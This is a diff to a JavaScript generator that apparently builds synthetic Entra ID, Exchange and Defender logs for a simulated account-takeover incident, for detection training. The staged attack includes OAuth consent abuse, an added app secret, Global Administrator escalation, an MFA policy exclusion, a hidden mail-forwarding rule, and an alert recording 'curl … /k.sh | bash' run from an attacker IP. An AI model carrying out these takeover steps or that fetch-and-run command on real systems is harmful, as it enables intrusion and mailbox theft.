@@ -811,6 +811,438 @@ function signIns() {
   return start;
 }
 
+// ---------------------------------------------------------------------------------------------------------------
+// AuditLogs
+
+const auditRows = [];
+const byUser = (u, ip) => ({ user: { id: u.id, displayName: null, userPrincipalName: u.upn, ipAddress: ip, roles: [] } });
+const byApp = (appId, displayName, servicePrincipalId) => ({ app: { appId, displayName, servicePrincipalId, servicePrincipalName: null } });
+const userTarget = (u, modifiedProperties = []) => ({ id: u.id, displayName: null, type: "User", userPrincipalName: u.upn, modifiedProperties, administrativeUnits: [] });
+const target = (id, displayName, type, modifiedProperties = []) => ({ id, displayName, type, modifiedProperties, administrativeUnits: [] });
+/** Entra ID writes modified property values JSON-encoded. */
+const prop = (displayName, oldValue, newValue) => ({ displayName, oldValue: oldValue === null ? null : JSON.stringify(oldValue), newValue: newValue === null ? null : JSON.stringify(newValue) });
+
+function audit(o) {
+  const correlationId = o.correlationId ?? guid();
+  const service = o.service ?? "Core Directory";
+  const prefix = service === "Core Directory" ? "Directory" : service === "Authentication Methods" ? "UserManagement" : "IPCGraph";
+  const initiator = o.initiatedBy.user ? o.initiatedBy.user.userPrincipalName : o.initiatedBy.app.displayName;
+  auditRows.push({
+    _at: o.at,
+    TimeGenerated: rel(o.at - int(30, 240)),
+    ActivityDateTime: rel(o.at),
+    OperationName: o.op,
+    ActivityDisplayName: o.op,
+    Category: o.category,
+    AADOperationType: o.opType,
+    Result: o.result ?? "success",
+    ResultType: "",
+    ResultReason: o.reason ?? "",
+    ResultDescription: "",
+    InitiatedBy: o.initiatedBy,
+    TargetResources: o.targets,
+    AdditionalDetails: o.details ?? [],
+    LoggedByService: service,
+    CorrelationId: correlationId,
+    Id: o.id ?? `${prefix}_${correlationId.toUpperCase().replace(/-/g, "").slice(0, 20)}_${hex(5).toUpperCase()}_${int(10000000, 99999999)}`,
+    Identity: initiator,
+    Level: "4",
+    Location: "",
+    OperationVersion: "1.0",
+    AADTenantId: tenantId,
+    DurationMs: 0,
+    Resource: "Microsoft.aadiam",
+    ResourceGroup: "Microsoft.aadiam",
+    ResourceId: `/tenants/${tenantId}/providers/Microsoft.aadiam`,
+    ResourceProvider: "Microsoft.aadiam",
+    SourceSystem: "Azure AD",
+    Type: "AuditLogs",
+    TenantId: tenantId,
+  });
+}
+
+function auditLogs() {
+  const { alex, sam, itAdmin, priya, taylor, morgan } = users;
+  const office = net.office.ips[0];
+  const ua = { key: "User-Agent", value: userAgents.firefoxLinux };
+
+  // Benign administration weeks before the window, and routine background changes.
+  audit({ at: 38 * D + 2 * H, op: "Add member to role", category: "RoleManagement", opType: "Assign", initiatedBy: byUser(itAdmin, office), targets: [
+    userTarget(morgan, [prop("Role.ObjectID", null, "e0b7c9a1-3f5d-4a7b-9c1e-5d3f7b9a1c02"), prop("Role.DisplayName", null, "Application Administrator"), prop("Role.TemplateId", null, roleIds.appAdmin), prop("Role.WellKnownObjectName", null, "ApplicationAdministrators")]),
+  ] });
+  audit({ at: 35 * D + 5 * H, op: "User registered security info", category: "UserManagement", opType: "Add", service: "Authentication Methods", reason: "User registered Mobile Phone SMS", initiatedBy: byUser(alex, net.office.ips[1]), targets: [userTarget(alex)] });
+  audit({ at: 33 * D + 4 * H, op: "User deleted security info", category: "UserManagement", opType: "Delete", service: "Authentication Methods", reason: "User deleted Authenticator App with Notification and Code", initiatedBy: byUser(sam, net.samHome.ips[0]), targets: [userTarget(sam)] });
+  audit({ at: 33 * D + 4 * H - 3 * M, op: "User registered security info", category: "UserManagement", opType: "Add", service: "Authentication Methods", reason: "User registered Authenticator App with Notification and Code", initiatedBy: byUser(sam, net.samHome.ips[0]), targets: [userTarget(sam)] });
+  audit({ at: 26 * D + 3 * H, op: "Update conditional access policy", category: "Policy", opType: "Update", service: "Conditional Access", initiatedBy: byUser(itAdmin, office), targets: [
+    target(policies.blockLegacy, "Block legacy authentication", "Policy", [prop("ConditionalAccessPolicy", { conditions: { clientAppTypes: ["exchangeActiveSync", "other"] } }, { conditions: { clientAppTypes: ["exchangeActiveSync"] } })]),
+  ] });
+  audit({ at: 20 * D + 6 * H, op: "Update user", category: "UserManagement", opType: "Update", initiatedBy: byUser(itAdmin, office), targets: [userTarget(priya, [prop("JobTitle", ["HR Generalist"], ["HR Business Partner"]), prop("Included Updated Properties", null, "JobTitle")])] });
+  audit({ at: 9 * D + 2 * H, op: "Reset user password", category: "UserManagement", opType: "Update", initiatedBy: byUser(itAdmin, office), targets: [userTarget(taylor)] });
+  // A directory sync service touches alex's account in the window, before the incident: routine, so only informational.
+  audit({ at: 10 * D + 7 * H, op: "Update user", category: "UserManagement", opType: "Update", initiatedBy: byApp("00000003-0000-0000-c000-000000000000", "Microsoft Substrate Management", "f9d1b3e5-7a9c-4e1b-a3d5-7f9b1d3e5a7c"), targets: [userTarget(alex, [prop("Included Updated Properties", null, "")])] });
+  for (const [u, d] of [[priya, 30], [taylor, 17], [morgan, 12], [sam, 24], [priya, 2]]) {
+    audit({ at: d * D + int(1, 8) * H, op: "Update user", category: "UserManagement", opType: "Update", initiatedBy: byApp("00000003-0000-0000-c000-000000000000", "Microsoft Substrate Management", "f9d1b3e5-7a9c-4e1b-a3d5-7f9b1d3e5a7c"), targets: [userTarget(u, [prop("Included Updated Properties", null, "")])] });
+  }
+
+  // The attacker, as alex, after the incident start.
+  const a1 = attacker.a1;
+  audit({ at: T0 - 20 * M, op: "User registered security info", category: "UserManagement", opType: "Add", service: "Authentication Methods", reason: "User registered Authenticator App with Notification and Code", initiatedBy: byUser(alex, a1), targets: [userTarget(alex)], details: [ua] });
+  audit({ at: T0 - 26 * M, op: "User registered security info", category: "UserManagement", opType: "Add", service: "Authentication Methods", reason: "User registered Alternate Mobile Phone Call", initiatedBy: byUser(alex, a1), targets: [
+    userTarget(alex, [prop("StrongAuthenticationUserDetails", [{ PhoneNumber: "+1 425XXXX123", AlternativePhoneNumber: null }], [{ PhoneNumber: "+1 425XXXX123", AlternativePhoneNumber: attackerPhoneMasked }])]),
+  ], details: [ua] });
+  audit({ at: T0 - 31 * M, op: "User changed default security info", category: "UserManagement", opType: "Update", service: "Authentication Methods", reason: "User changed default security info from Authenticator App with Notification and Code to Authenticator App with Notification and Code", initiatedBy: byUser(alex, a1), targets: [userTarget(alex)], details: [ua] });
+  const consent = guid();
+  audit({ at: T0 - 59 * M, correlationId: consent, op: "Add service principal", category: "ApplicationManagement", opType: "Add", initiatedBy: byUser(alex, a1), targets: [
+    target(mailSyncPro.spId, "Mail Sync Pro", "ServicePrincipal", [prop("AppAddress", null, [{ AddressType: 0, Address: "https://mailsync-pro.app/auth/callback" }]), prop("AppId", null, mailSyncPro.appId), prop("DisplayName", null, "Mail Sync Pro")]),
+  ] });
+  audit({ at: T0 - 60 * M + 2, correlationId: consent, op: "Add delegated permission grant", category: "ApplicationManagement", opType: "Assign", initiatedBy: byUser(alex, a1), targets: [
+    target(graphSpId, "Microsoft Graph", "ServicePrincipal", [prop("DelegatedPermissionGrant.Scope", null, " Mail.Read offline_access User.Read"), prop("DelegatedPermissionGrant.ConsentType", null, "Principal")]),
+  ] });
+  audit({ at: T0 - 60 * M, correlationId: consent, op: "Consent to application", category: "ApplicationManagement", opType: "Assign", initiatedBy: byUser(alex, a1), targets: [
+    target(mailSyncPro.spId, "Mail Sync Pro", "ServicePrincipal", [
+      prop("ConsentContext.IsAdminConsent", null, "False"),
+      prop("ConsentContext.IsAppOnly", null, "False"),
+      prop("ConsentContext.OnBehalfOfAll", null, "False"),
+      prop("ConsentContext.Tags", null, "WindowsAzureActiveDirectoryIntegratedApp"),
+      prop("ConsentAction.Permissions", null, `[] => [[Id: ${mailSyncPro.grantId}, ClientId: ${mailSyncPro.spId}, PrincipalId: ${alex.id}, ResourceId: ${graphSpId}, ConsentType: Principal, Scope:  Mail.Read offline_access User.Read, CreatedDateTime: , LastModifiedDateTime ]]; `),
+      prop("TargetId.ServicePrincipalNames", null, `${mailSyncPro.appId};https://mailsync-pro.app`),
+    ]),
+  ], details: [ua, { key: "AppId", value: mailSyncPro.appId }] });
+  audit({ at: T0 - 100 * M, op: "Update application \u2013 Certificates and secrets management ", category: "ApplicationManagement", opType: "Update", initiatedBy: byUser(alex, a1), targets: [
+    target(financeReporting.appObjectId, "Finance Reporting", "Application", [
+      prop("KeyDescription", [`[KeyIdentifier=${financeReporting.oldSecretKeyId},KeyType=Password,KeyUsage=Verify,DisplayName=reporting-prod]`], [`[KeyIdentifier=${financeReporting.oldSecretKeyId},KeyType=Password,KeyUsage=Verify,DisplayName=reporting-prod]`, `[KeyIdentifier=${financeReporting.newSecretKeyId},KeyType=Password,KeyUsage=Verify,DisplayName=sync]`]),
+      prop("Included Updated Properties", null, "KeyDescription"),
+    ]),
+  ], details: [ua, { key: "AppId", value: financeReporting.appId }] });
+  audit({ at: T0 - 105 * M, op: "Add service principal credentials", category: "ApplicationManagement", opType: "Update", initiatedBy: byUser(alex, a1), targets: [
+    target(financeReporting.spId, "Finance Reporting", "ServicePrincipal", [
+      prop("KeyDescription", [], [`[KeyIdentifier=${financeReporting.newSpSecretKeyId},KeyType=Password,KeyUsage=Verify,DisplayName=]`]),
+      prop("Included Updated Properties", null, "KeyDescription"),
+    ]),
+  ], details: [ua, { key: "AppId", value: financeReporting.appId }] });
+  // With the app's new secret, the attacker uses its RoleManagement.ReadWrite.Directory permission to make alex a Global Administrator.
+  audit({ at: T0 - 150 * M, op: "Add member to role", category: "RoleManagement", opType: "Assign", initiatedBy: byApp(financeReporting.appId, "Finance Reporting", financeReporting.spId), targets: [
+    userTarget(alex, [prop("Role.ObjectID", null, "5c1e3a9f-7d5b-4b3f-a1c9-e7d5b3a1f9c7"), prop("Role.DisplayName", null, "Global Administrator"), prop("Role.TemplateId", null, roleIds.globalAdmin), prop("Role.WellKnownObjectName", null, "TenantAdmins")]),
+  ] });
+  audit({ at: T0 - 170 * M, op: "Update conditional access policy", category: "Policy", opType: "Update", service: "Conditional Access", initiatedBy: byUser(alex, a1), targets: [
+    target(policies.requireMfa, "Require MFA for all users", "Policy", [
+      prop("ConditionalAccessPolicy", { id: policies.requireMfa, displayName: "Require MFA for all users", state: "enabled", conditions: { users: { includeUsers: ["All"], excludeUsers: [users.breakglass.id] } } }, { id: policies.requireMfa, displayName: "Require MFA for all users", state: "enabled", conditions: { users: { includeUsers: ["All"], excludeUsers: [users.breakglass.id, alex.id] } } }),
+    ]),
+  ], details: [ua] });
+  audit({ at: T0 - 180 * M, op: "Add named location", category: "Policy", opType: "Add", service: "Conditional Access", initiatedBy: byUser(alex, a1), targets: [
+    target(namedLocationIds.branchNl, "Branch Office NL", "Policy", [prop("NamedLocation", null, { "@odata.type": "#microsoft.graph.ipNamedLocation", displayName: "Branch Office NL", isTrusted: true, ipRanges: [{ cidrAddress: attacker.range }] })]),
+  ], details: [ua] });
+  audit({ at: T0 - 210 * M, op: "Update user", category: "UserManagement", opType: "Update", initiatedBy: byUser(alex, a1), targets: [
+    userTarget(alex, [prop("MobilePhone", [], [attackerPhone]), prop("OtherMails", [], ["alex.wilber.fin@proton.me"]), prop("Included Updated Properties", null, "MobilePhone, OtherMails")]),
+  ], details: [ua] });
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// OfficeActivity
+
+const officeRows = [];
+const userKeys = { [users.alex.upn]: "10032002F1A7C3B4", [users.sam.upn]: "10032001A9D5E2C7", [users.taylor.upn]: "100320008B4E1F6A" };
+
+function office(o) {
+  officeRows.push({
+    _at: o.at,
+    TimeGenerated: rel(o.at),
+    RecordType: o.recordType,
+    Operation: o.op,
+    OfficeWorkload: o.workload ?? "Exchange",
+    UserId: o.user.upn,
+    UserKey: userKeys[o.user.upn] ?? "",
+    UserType: "Regular",
+    ClientIP: o.ip,
+    ActorIpAddress: o.workload === "SharePoint" ? o.ip : "",
+    ResultStatus: o.result ?? (o.recordType === "ExchangeAdmin" ? "True" : "Succeeded"),
+    OrganizationId: tenantId,
+    OfficeId: guid(),
+    OfficeObjectId: o.objectId ?? "",
+    MailboxOwnerUPN: o.workload === "SharePoint" ? "" : o.user.upn,
+    ClientInfoString: o.client ?? "",
+    ExternalAccess: "false",
+    Parameters: o.parameters ? JSON.stringify(o.parameters) : "",
+    UserAgent: o.ua ?? "",
+    TenantId: tenantId,
+    Type: "OfficeActivity",
+  });
+}
+
+function officeActivity() {
+  const { alex, sam, taylor } = users;
+  const outlook = "Client=MSExchangeRPC;Outlook;16.0.18129.20158";
+  for (let d = HISTORY_DAYS; d >= 0; d--) {
+    if (!isWorkday(d)) continue;
+    for (const u of [alex, sam]) {
+      const traveling = u === sam && d >= 5 && d <= 8;
+      const where = u === alex ? net.office : traveling ? net.samHotel : net.samHome;
+      const at = onDay(d, 2 + random() * 6);
+      if (at === undefined) continue;
+      office({ at, recordType: "ExchangeItemAggregated", op: "MailItemsAccessed", user: u, ip: pickOne(where.ips), client: outlook, objectId: "" });
+      if (chance(0.5)) office({ at: at - int(10, 90) * M, recordType: "ExchangeItem", op: "Send", user: u, ip: pickOne(where.ips), client: outlook });
+    }
+    if (chance(0.5)) {
+      const at = onDay(d, 3 + random() * 4);
+      if (at !== undefined) office({ at, recordType: "SharePointFileOperation", op: "FileAccessed", workload: "SharePoint", user: pickOne([alex, taylor]), ip: pickOne(net.office.ips), objectId: "https://contoso.sharepoint.com/sites/Finance/Shared Documents/Forecast FY27.xlsx", ua: userAgents.edgeWindows });
+    }
+  }
+  // Alex's own, long-standing rule (no forwarding), and Sam's on his trip: both benign.
+  office({ at: 30 * D + 3 * H, recordType: "ExchangeAdmin", op: "New-InboxRule", user: alex, ip: net.office.ips[1], client: "Client=OWA;Action=ViaProxy", objectId: "Alex Wilber\\Vendor invoices", parameters: [
+    { Name: "Name", Value: "Vendor invoices" }, { Name: "From", Value: "ap@fabrikam.com" }, { Name: "MoveToFolder", Value: "Invoices" }, { Name: "StopProcessingRules", Value: "True" },
+  ] });
+  office({ at: 7 * D + 1 * H, recordType: "ExchangeAdmin", op: "New-InboxRule", user: sam, ip: net.samHotel.ips[1], client: "Client=OWA;Action=ViaProxy", objectId: "Sam Patel\\Travel newsletters", parameters: [
+    { Name: "Name", Value: "Travel newsletters" }, { Name: "SubjectContainsWords", Value: "newsletter" }, { Name: "MoveToFolder", Value: "Newsletters" },
+  ] });
+
+  // The attacker: a hidden forwarding rule, then mailbox forwarding, and mail read through the consented app.
+  office({ at: T0 - 75 * M, recordType: "ExchangeAdmin", op: "New-InboxRule", user: alex, ip: attacker.a1, client: "Client=OWA;Action=ViaProxy", objectId: "Alex Wilber\\.", ua: userAgents.firefoxLinux, parameters: [
+    { Name: "AlwaysDeleteOutlookRulesBlob", Value: "False" },
+    { Name: "Force", Value: "False" },
+    { Name: "Name", Value: "." },
+    { Name: "SubjectOrBodyContainsWords", Value: "invoice;payment;wire transfer;bank details" },
+    { Name: "ForwardTo", Value: "alex.wilber.fin@proton.me" },
+    { Name: "MoveToFolder", Value: "RSS Subscriptions" },
+    { Name: "MarkAsRead", Value: "True" },
+    { Name: "StopProcessingRules", Value: "True" },
+  ] });
+  office({ at: T0 - 240 * M, recordType: "ExchangeAdmin", op: "Set-Mailbox", user: alex, ip: attacker.a2, client: "Client=OWA;Action=ViaProxy", objectId: "Alex Wilber", ua: userAgents.firefoxLinux, parameters: [
+    { Name: "Identity", Value: "alex@contoso.com" },
+    { Name: "ForwardingSmtpAddress", Value: "smtp:alex.wilber.fin@proton.me" },
+    { Name: "DeliverToMailboxAndForward", Value: "True" },
+  ] });
+  for (let t = T0 - 70 * M; t > T0 - 2 * D; t -= int(300, 500) * M) {
+    office({ at: t, recordType: "ExchangeItemAggregated", op: "MailItemsAccessed", user: alex, ip: attacker.a2, client: `Client=REST;Client=RESTSystem;AppId=${mailSyncPro.appId};` });
+  }
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// SecurityAlert (Defender for Cloud), AADUserRiskEvents, IdentityInfo
+
+const alertRows = [];
+
+function alert(o) {
+  const resourceId = o.resourceId.toLowerCase();
+  const host = resourceId.slice(resourceId.lastIndexOf("/") + 1);
+  const entities = [
+    { $id: "2", HostName: host, AzureID: o.resourceId, OMSAgentID: o.agentId, OSFamily: "Linux", Type: "host" },
+    ...o.entities.map((e, i) => ({ $id: String(i + 3), ...e })),
+  ];
+  const row = {
+    _at: o.updatedAt ?? o.at,
+    TimeGenerated: rel(o.updatedAt ?? o.at - 2 * M),
+    AlertName: o.name,
+    DisplayName: o.name,
+    AlertSeverity: o.severity,
+    Description: o.description,
+    ProviderName: "Azure Security Center",
+    VendorName: "Microsoft",
+    VendorOriginalId: o.vendorId,
+    SystemAlertId: o.systemAlertId,
+    ProductName: "Azure Security Center",
+    ProductComponentName: "Servers",
+    AlertLink: `https://portal.azure.com/#blade/Microsoft_Azure_Security_AzureDefenderForData/AlertBlade/alertId/${o.vendorId}/subscriptionId/${subscriptionId}/resourceGroup/${o.resourceGroup}/referencedFrom/alertDeepLink/location/westeurope`,
+    Status: o.status ?? "New",
+    CompromisedEntity: host,
+    Tactics: o.tactics,
+    Techniques: JSON.stringify(o.techniques),
+    Entities: JSON.stringify(entities),
+    ExtendedProperties: JSON.stringify({ "Alert Type": o.alertType, "resourceType": "Virtual Machine", ...o.extended }),
+    RemediationSteps: JSON.stringify(o.remediation),
+    ResourceId: resourceId,
+    SourceComputerId: o.agentId,
+    StartTime: rel(o.at),
+    EndTime: rel(o.endAt ?? o.at),
+    ProcessingEndTime: rel((o.updatedAt ?? o.at) - 1 * M),
+    IsIncident: false,
+    ConfidenceLevel: "",
+    WorkspaceSubscriptionId: subscriptionId,
+    WorkspaceResourceGroup: "rg-security",
+    Type: "SecurityAlert",
+    TenantId: tenantId,
+  };
+  alertRows.push(row);
+}
+
+function securityAlerts() {
+  const vm = `/subscriptions/${subscriptionId}/resourceGroups/rg-web/providers/Microsoft.Compute/virtualMachines/vm-web-01`;
+  const buildVm = `/subscriptions/${subscriptionId}/resourceGroups/rg-build/providers/Microsoft.Compute/virtualMachines/vm-build-01`;
+  const agent = "6b4d2f0e-8c6a-4e4c-b2a0-8e6c4a2f0d19";
+  const execution = {
+    at: T0 - 1 * D - 10 * H,
+    name: "Suspicious process executed",
+    severity: "High",
+    description: "Machine logs indicate that the suspicious process 'curl -s http://45.137.20.88/k.sh | bash' was running on vm-web-01. This behavior is often associated with attackers downloading and running tools after gaining access.",
+    vendorId: "2517167351993250000_8f3e1a5c-7b9d-4c2e-a6f8-1d3b5e7a9c20",
+    systemAlertId: "8f3e1a5c-7b9d-4c2e-a6f8-1d3b5e7a9c20",
+    resourceId: vm,
+    resourceGroup: "rg-web",
+    agentId: agent,
+    tactics: "Execution",
+    techniques: ["T1059"],
+    alertType: "VM_SuspiciousProcessExecution",
+    entities: [
+      { Address: attacker.a2, Type: "ip" },
+      { ProcessId: "0x2f41", CommandLine: `curl -s http://${attacker.a2}/k.sh | bash`, ElevationToken: "Default", Type: "process" },
+      { Name: "azureuser", Host: { $ref: "2" }, Type: "account" },
+    ],
+    extended: { "Suspicious Process": "/usr/bin/bash", "Command Line": `curl -s http://${attacker.a2}/k.sh | bash`, "User Name": "azureuser" },
+    remediation: ["Review the process and the account that ran it.", "If the activity is not legitimate, isolate the machine and take forensic snapshots of its disks before any change."],
+  };
+  alert(execution);
+  // Defender writes the alert again when it is seen again: same SystemAlertId, later end time.
+  alert({ ...execution, name: "Suspicious process executed [seen multiple times]", endAt: T0 - 1 * D - 13 * H, updatedAt: T0 - 1 * D - 13 * H });
+  alert({
+    at: T0 - 1 * D - 11 * H,
+    name: "Suspicious SSH key addition and credential file access",
+    severity: "Medium",
+    description: "A new key was added to /home/azureuser/.ssh/authorized_keys by a process that then read /etc/shadow on vm-web-01. Attackers add SSH keys to keep access and read credential files to move laterally.",
+    vendorId: "2517167312449870000_2c4e6a8b-0d2f-4b4d-9f6a-8c0e2a4c6e31",
+    systemAlertId: "2c4e6a8b-0d2f-4b4d-9f6a-8c0e2a4c6e31",
+    resourceId: vm,
+    resourceGroup: "rg-web",
+    agentId: agent,
+    tactics: "Persistence, CredentialAccess",
+    techniques: ["T1098.004", "T1003.008"],
+    alertType: "VM_SshKeyAddition",
+    entities: [
+      { Address: attacker.a2, Type: "ip" },
+      { Name: "authorized_keys", Directory: "/home/azureuser/.ssh", Type: "file" },
+      { Name: "shadow", Directory: "/etc", Type: "file" },
+    ],
+    extended: { "File Path": "/home/azureuser/.ssh/authorized_keys", "User Name": "azureuser" },
+    remediation: ["Remove keys you did not add from authorized_keys after the disks have been snapshotted.", "Rotate every credential stored on the machine."],
+  });
+  // Unrelated and informational: a scan from the build agent, with Discovery only.
+  alert({
+    at: 6 * D + 3 * H,
+    name: "Network scanning activity detected",
+    severity: "Informational",
+    description: "vm-build-01 connected to many hosts on the same port within a short time. This is often a network scan; build agents running dependency checks can do the same.",
+    vendorId: "2517171840129990000_4e6a8c0d-2f4b-4d6f-8b0c-0e2c4a6e8f42",
+    systemAlertId: "4e6a8c0d-2f4b-4d6f-8b0c-0e2c4a6e8f42",
+    resourceId: buildVm,
+    resourceGroup: "rg-build",
+    agentId: "9d7b5f3e-1c9a-4b7d-a5e3-1f9d7b5c3a61",
+    tactics: "Discovery",
+    techniques: ["T1046"],
+    alertType: "VM_NetworkScanning",
+    entities: [{ Address: "10.20.1.0", Type: "ip" }],
+    extended: { "Destination Port": "443" },
+    remediation: ["Confirm whether the build pipeline ran a scan at that time."],
+  });
+}
+
+const riskRows = [];
+const riskDetections = [];
+const riskIds = {
+  unfamiliar: "b3c1e9a7f5d3b1e9c7a5f3d1b9e7c5a3f1d9b7e5c3a1f9d7b5e3c1a9f7d5b3e1",
+  anonymized: "e8f6d4b2a0c8e6f4d2b0a8c6e4f2d0b8a6c4e2f0d8b6a4c2e0f8d6b4a2c0e8f6",
+  samTrip: "4a2c0e8f6d4b2a0c8e6f4d2b0a8c6e4f2d0b8a6c4e2f0d8b6a4c2e0f8d6b4a2c",
+};
+
+function riskDetection(o) {
+  const u = o.user;
+  const location = { city: o.where.city, state: o.where.state, countryOrRegion: o.where.country, geoCoordinates: null };
+  riskRows.push({
+    _at: o.detectedAt,
+    TimeGenerated: rel(o.updatedAt ?? o.detectedAt),
+    Activity: "signin",
+    ActivityDateTime: rel(o.at),
+    AdditionalInfo: [{ Key: "userAgent", Value: o.ua }],
+    CorrelationId: o.correlationId,
+    DetectedDateTime: rel(o.detectedAt),
+    DetectionTimingType: "realtime",
+    Id: o.id,
+    IpAddress: o.ip,
+    LastUpdatedDateTime: rel(o.updatedAt ?? o.detectedAt),
+    Location: location,
+    RequestId: o.requestId,
+    RiskDetail: o.riskDetail ?? "none",
+    RiskEventType: o.type,
+    RiskLevel: o.level,
+    RiskState: o.state,
+    Source: "IdentityProtection",
+    TokenIssuerType: "AzureAD",
+    UserDisplayName: u.name,
+    UserId: u.id,
+    UserPrincipalName: u.upn,
+    OperationName: "User Risk Detection",
+    Type: "AADUserRiskEvents",
+    TenantId: tenantId,
+  });
+  riskDetections.push({
+    id: o.id,
+    requestId: o.requestId,
+    correlationId: o.correlationId,
+    riskEventType: o.type,
+    riskState: o.state,
+    riskLevel: o.level,
+    riskDetail: o.riskDetail ?? "none",
+    source: "IdentityProtection",
+    detectionTimingType: "realtime",
+    activity: "signin",
+    tokenIssuerType: "AzureAD",
+    ipAddress: o.ip,
+    location,
+    activityDateTime: rel(o.at),
+    detectedDateTime: rel(o.detectedAt),
+    lastUpdatedDateTime: rel(o.updatedAt ?? o.detectedAt),
+    userId: u.id,
+    userDisplayName: u.name,
+    userPrincipalName: u.upn,
+    additionalInfo: JSON.stringify([{ Key: "userAgent", Value: o.ua }]),
+  });
+}
+
+function riskEvents(start) {
+  const a = { city: attacker.city, state: attacker.state, country: attacker.country };
+  const base = { user: users.alex, where: a, ip: attacker.a1, at: T0, detectedAt: T0 - 1 * M, requestId: incidentSignInId, correlationId: start.CorrelationId, ua: userAgents.firefoxLinux, state: "atRisk" };
+  riskDetection({ ...base, id: riskIds.unfamiliar, type: "unfamiliarFeatures", level: "high" });
+  riskDetection({ ...base, id: riskIds.anonymized, type: "anonymizedIPAddress", level: "medium" });
+  const samSignIn = interactiveRows.find((r) => r.Id === samLowRiskSignInId);
+  riskDetection({ user: users.sam, where: net.samHotel, ip: samSignIn.IPAddress, at: samSignIn._at, detectedAt: samSignIn._at - 1 * M, updatedAt: 5 * D + 2 * H, requestId: samLowRiskSignInId, correlationId: samSignIn.CorrelationId, ua: userAgents.edgeWindows, id: riskIds.samTrip, type: "unfamiliarFeatures", level: "low", state: "dismissed", riskDetail: "adminDismissedAllRiskForUser" });
+}
+
+function identityInfo() {
+  const rows = [];
+  const roles = { alex: ["Global Administrator"], itAdmin: ["Global Administrator", "Conditional Access Administrator"], breakglass: ["Global Administrator"], morgan: ["Application Administrator"] };
+  for (const [key, u] of Object.entries(users)) {
+    for (const [at, current] of [[8 * D + 4 * H, false], [1 * D + 4 * H, true]]) {
+      const [given, ...rest] = u.name.split(" ");
+      rows.push({
+        _at: at,
+        TimeGenerated: rel(at),
+        AccountName: u.upn.split("@")[0],
+        AccountDomain: domain,
+        AccountUPN: u.upn,
+        AccountObjectId: u.id,
+        AccountTenantId: tenantId,
+        GivenName: key === "breakglass" ? "" : given,
+        Surname: key === "breakglass" ? "" : rest.join(" ").replace(/\s*\(.*\)$/, ""),
+        Department: u.department ?? "",
+        JobTitle: u.jobTitle ?? "",
+        MailAddress: key === "breakglass" ? "" : u.upn,
+        Manager: key === "alex" ? users.taylor.upn : "",
+        City: key === "sam" ? "Chicago" : "Seattle",
+        Country: "US",
+        IsAccountEnabled: true,
+        AccountCreationTime: rel(u.created),
+        // Alex became a Global Administrator during the incident: the earlier snapshot does not have it.
+        AssignedRoles: key === "alex" && !current ? [] : (roles[key] ?? []),
+        GroupMembership: [u.department ?? "IT", "All Employees"].filter((g, i, all) => all.indexOf(g) === i),
+        RiskLevel: key === "alex" && current ? "High" : "None",
+        RiskState: key === "alex" && current ? "AtRisk" : key === "sam" ? "Dismissed" : "None",
+        IsMFARegistered: true,
+        UserType: "Member",
+        SourceSystem: "AzureActiveDirectory",
+        Type: "IdentityInfo",
+      });
+    }
+  }
+  return rows;
+}
+
 const incidentSignInId = "d1c4a7e0-3b6f-4c9a-8d2e-5f1a4b7c0e93";
 const samLowRiskSignInId = "a8e1b4d7-0c3f-4a6e-9b2d-5e8f1a4c7b06";
 
@@ -819,8 +1251,19 @@ const samLowRiskSignInId = "a8e1b4d7-0c3f-4a6e-9b2d-5e8f1a4c7b06";
 mkdirSync(outDir, { recursive: true });
 const tenantJson = tenant();
 writeJson("tenant", tenantJson);
-signIns();
+const incident = signIns();
+auditLogs();
+officeActivity();
+securityAlerts();
+riskEvents(incident);
+tenantJson.riskDetections = riskDetections;
+writeJson("tenant", tenantJson);
 const byTime = (a, b) => (a.CreatedDateTime ?? a.TimeGenerated).localeCompare(b.CreatedDateTime ?? b.TimeGenerated);
 console.log(`wrote ${outDir}: tenant.json`);
 console.log("SigninLogs", writeTable("SigninLogs", interactiveRows));
 console.log("AADNonInteractiveUserSignInLogs", writeTable("AADNonInteractiveUserSignInLogs", nonInteractiveRows));
+console.log("AuditLogs", writeTable("AuditLogs", auditRows));
+console.log("OfficeActivity", writeTable("OfficeActivity", officeRows));
+console.log("SecurityAlert", writeTable("SecurityAlert", alertRows));
+console.log("AADUserRiskEvents", writeTable("AADUserRiskEvents", riskRows));
+console.log("IdentityInfo", writeTable("IdentityInfo", identityInfo()));
